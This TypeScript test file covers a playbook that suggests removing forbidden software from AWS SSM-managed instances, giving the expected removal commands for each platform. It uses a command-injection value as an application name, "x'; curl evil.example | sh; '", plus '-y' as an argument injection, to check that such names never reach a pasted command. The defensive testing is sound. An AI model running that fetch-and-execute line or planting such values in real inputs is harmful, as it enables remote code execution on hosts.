import { removeSoftware } from '../../../playbooks/ssm/remove-software.ts'
import { failure } from '../../support/aws-model/failure.ts'
import type { AdviceRow, AdviceTable } from '../advice-table.ts'
import { onlyIf } from '../setting-table.ts'

const INSTANCE = 'i-0123456789abcdef0'
const LINUX = { PlatformType: 'Linux', PlatformName: 'Amazon Linux', PingStatus: 'Online' }
const telnet = { Name: 'telnet', Version: '0.17' }
const CLEAN = 'take it out of the image'

const sent = (document: string, ...commands: string[]) =>
  `aws ssm send-command --region eu-west-1 --instance-ids ${INSTANCE} --document-name ${document} --parameters '${JSON.stringify({ commands })}'`
const byHand = (what: string) => `remove ${what} on the instance, by the means that installed it`

/** What is told of a program on a machine. */
const told = (agent: object, entry: { Name: string; Version?: string }, ...todo: string[]): AdviceRow => ({
  live: { agent, entries: [entry] },
  leads: {
    outcome: 'notified',
    reason: `installed, although the rule forbids it: ${entry.Name}`,
    todo: [...todo, CLEAN],
  },
})

export const table: AdviceTable = {
  playbook: removeSoftware,
  finding: {
    type: 'EC2_MANAGEDINSTANCE_APPLICATIONS_BLACKLISTED',
    resourceType: 'AWS::SSM::ManagedInstanceInventory',
    id: `AWS::SSM::ManagedInstanceInventory/${INSTANCE}`,
    evidence: {
      ruleParameters: {
        applicationNames: "telnet, Wireshark:3.1,Acme Tool (x64), x'; curl evil.example | sh; ', -y",
        platformType: 'Linux',
      },
    },
  },
  id: INSTANCE,
  rows: [
    told(
      LINUX,
      telnet,
      sent('AWS-RunShellScript', 'rpm -q --whatrequires telnet', 'yum remove --assumeno telnet'),
      sent('AWS-RunShellScript', 'yum remove -y telnet'),
    ),
    told(
      { ...LINUX, PlatformName: 'Ubuntu' },
      telnet,
      sent('AWS-RunShellScript', 'apt-get -s remove telnet'),
      sent('AWS-RunShellScript', 'apt-get remove -y telnet'),
    ),
    told(
      { ...LINUX, PlatformName: 'SLES' },
      telnet,
      sent('AWS-RunShellScript', 'zypper --non-interactive remove --dry-run telnet'),
      sent('AWS-RunShellScript', 'zypper --non-interactive remove telnet'),
    ),
    told(
      { ...LINUX, PlatformType: 'Windows' },
      { Name: 'Acme Tool (x64)', Version: '1' },
      sent('AWS-RunPowerShellScript', 'Get-Package -Name "Acme Tool (x64)" | Uninstall-Package -WhatIf'),
      sent('AWS-RunPowerShellScript', 'Get-Package -Name "Acme Tool (x64)" | Uninstall-Package -Force'),
    ),
    told({ ...LINUX, PlatformName: 'Gentoo' }, telnet, byHand('telnet 0.17')),
    told({ PlatformType: 'MacOS', PingStatus: 'Online' }, telnet, byHand('telnet 0.17')),
    // What an inventory calls a program the instance wrote: it never stands in a command that somebody pastes.
    told(LINUX, { Name: "x'; curl evil.example | sh; '" }, byHand("x'; curl evil.example | sh; '")),
    told(LINUX, { Name: '-y' }, byHand('-y')),
    told({}, telnet, 'bring its SSM agent back, which is not known', byHand('telnet 0.17')),
    told(
      { ...LINUX, PingStatus: 'ConnectionLost' },
      telnet,
      'bring its SSM agent back, which is ConnectionLost',
      'yum remove --assumeno telnet',
      'yum remove -y telnet',
    ),
    told(
      LINUX,
      { Name: 'Wireshark', Version: '3.1' },
      'yum remove --assumeno Wireshark',
      'yum remove -y Wireshark',
    ),
    {
      live: { agent: LINUX, entries: [{ Name: 'Wireshark', Version: '4.0' }] },
      leads: { outcome: 'notApplicable', reason: 'its inventory lists none of ' },
    },
    {
      live: { agent: LINUX, entries: [] },
      leads: { outcome: 'notApplicable', reason: 'look on the instance' },
    },
  ],
  aws: (machine) => ({
    ec2: {
      DescribeInstances: () => ({
        Reservations: onlyIf(machine, {
          Instances: [{ InstanceId: INSTANCE, State: { Name: 'running' }, Tags: machine.tags }],
        }),
      }),
    },
    ssm: {
      DescribeInstanceInformation: () => ({
        InstanceInformationList: [{ InstanceId: INSTANCE, ...(machine.more.agent as object) }],
      }),
      ListInventoryEntries: ({ TypeName, Filters }) => {
        const [{ Key, Values, Type }] = Filters as [{ Key: string; Values: string[]; Type: string }]
        if (TypeName !== 'AWS:Application' || Key !== 'AWS:Application.Name' || Type !== 'Equal')
          throw failure('ssm:ListInventoryEntries', 'InvalidFilter')
        const entries = machine.more.entries as { Name: string }[]
        return { Entries: entries.filter(({ Name }) => Values.includes(Name)) }
      },
    },
  }),
}
